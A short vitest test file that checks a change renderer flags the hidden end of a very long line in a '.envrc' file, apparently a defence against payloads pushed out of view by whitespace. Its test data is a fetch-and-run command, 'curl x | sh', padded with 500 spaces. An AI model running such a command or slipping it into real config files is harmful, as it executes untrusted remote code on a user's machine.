import { expect, test } from 'vitest';
import { changeLines } from '../../src/ui/render-change.ts';
import { styleFor } from '../../src/ui/style.ts';

function file(text: string) {
  const content = Buffer.from(text).toString('base64');
  return { kind: 'file' as const, mode: 0o644, sha256: text, content };
}

test('the end of a long line is told of, and shown when all is', () => {
  const line = `${' '.repeat(500)}curl x | sh`;
  const change = {
    path: '/p/.envrc',
    place: '/p',
    before: file(''),
    after: file(`${line}\n`),
    isRepository: false,
  };
  const style = styleFor(false);
  expect(changeLines(change, style).join('\n')).toContain('111 more characters, s shows them');
  expect(changeLines(change, style, true).join('\n')).toContain(line);
});
